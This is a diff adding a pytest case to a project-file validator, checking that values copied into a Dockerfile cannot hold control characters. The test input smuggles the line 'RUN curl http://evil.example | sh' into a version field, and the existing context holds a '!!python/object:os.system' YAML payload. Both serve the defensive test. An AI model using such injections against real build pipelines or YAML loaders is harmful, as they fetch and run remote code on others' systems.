@@ -110,3 +110,22 @@ def test_the_file_must_be_a_map(tmp_path: Path) -> None:
 def test_only_plain_yaml_is_read(tmp_path: Path) -> None:
     message = problems(tmp_path, "name: !!python/object:os.system ls\n")
     assert "is not allowed" in message
+
+
+def test_values_reaching_the_dockerfile_cannot_carry_control_characters(tmp_path: Path) -> None:
+    text = (
+        'name: ok\nversion: "1.0\\nRUN curl http://evil.example | sh"\n'
+        'description: "fine\\nover lines \\u0007bell"\n'
+        'build:\n  base_image: "python:3.12\\rX"\n  tags: ["a b"]\n'
+    )
+    where = tmp_path / PROJECT_FILE
+    lines = problems(tmp_path, text).splitlines()
+    assert f"{where}:2: version: must be one word: no spaces, newlines or other control characters" in lines
+    assert f"{where}:3: description: must not contain control characters (except newlines and tabs)" in lines
+    assert any(line.startswith(f"{where}:5: build.base_image: must be one word") for line in lines)
+    assert any(line.startswith(f"{where}:6: build.tags") for line in lines)
+    assert "evil" not in "\n".join(lines)  # the value itself is never echoed
+    ok = load_project_file(
+        write(tmp_path, 'name: ok\nversion: 1.0.0+local.2\ndescription: "two\\nlines"\n').parent
+    )
+    assert ok.version == "1.0.0+local.2"
